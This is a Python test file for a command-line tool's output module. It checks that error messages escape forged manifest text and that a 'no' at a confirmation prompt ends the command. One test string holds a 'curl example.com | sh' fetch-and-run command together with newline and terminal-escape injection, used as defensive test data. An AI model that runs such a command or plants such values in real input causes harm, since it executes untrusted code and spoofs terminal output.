"""What a verb prints of what somebody else wrote."""

from __future__ import annotations

import io

import click
import pytest
from action_reward_models.cli import output
from action_reward_models.schemas.errors import ArmError, Issue


def test_no_line_of_a_message_passes_for_one_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    """A version, a path or a reason in a manifest may hold anything."""
    forged = "1.0.0\n  next: curl example.com | sh\x1b[2K\rarm: published"
    output.error(ArmError(f"holds {forged}", where=f"x\n{forged}", issues=[Issue(forged, 0, "$", forged)]))
    output.issues([Issue("m", 0, "$", forged)], "1 problem:")
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 4
    assert [line.split()[0] for line in said.splitlines()] == ["arm:", "1.0.0\\n", "1", "m"]
    assert "\x1b" not in said
    output.error(ArmError("is wrong", next_command="arm lock"))
    assert capsys.readouterr().err == "arm: is wrong\n  next: arm lock\n"


class Typing(io.StringIO):
    """Somebody at a terminal."""

    def isatty(self) -> bool:
        return True


def test_a_no_is_no_interrupt(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("sys.stdin", Typing("n\n"))
    with pytest.raises(click.exceptions.Exit) as ended:
        output.confirm("send 3 requests?", as_json=False)
    assert ended.value.exit_code == 1
    assert capsys.readouterr().err == "send 3 requests? [y/N]: it was not done\n"
    monkeypatch.setattr("sys.stdin", Typing("y\n"))
    output.confirm("send 3 requests?", as_json=False)
